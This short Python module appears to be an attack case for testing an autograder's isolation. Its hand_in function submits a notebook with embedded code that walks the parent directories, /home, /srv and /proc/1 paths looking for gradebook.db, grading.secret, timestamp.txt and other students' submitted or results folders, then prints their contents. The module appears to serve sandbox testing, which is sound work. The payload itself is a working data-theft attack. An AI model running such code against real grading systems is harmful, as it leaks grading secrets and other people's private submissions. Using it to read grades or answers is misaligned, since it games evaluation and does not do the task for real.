"""The gradebook, the class's secret and the other submissions are looked for, and shown."""
from ..craft import submit


def hand_in(folder, notebook):
    places = [str(folder.parents[2]), "../../..", "../..", "/home", "/srv", "/proc/1/cwd", "/proc/1/root", "/proc/2/cwd"]
    submit(folder, notebook, gan_value=f"""
        import os
        for place in {places!r}:
            for root, folders, files in os.walk(place):
                for name in files[:50]:
                    if name in ("gradebook.db", "grading.secret", "timestamp.txt") or "submitted" in root or "results" in root:
                        try:
                            print(open(os.path.join(root, name), errors="replace").read(2000))
                        except OSError as error:
                            print(error)
        """)
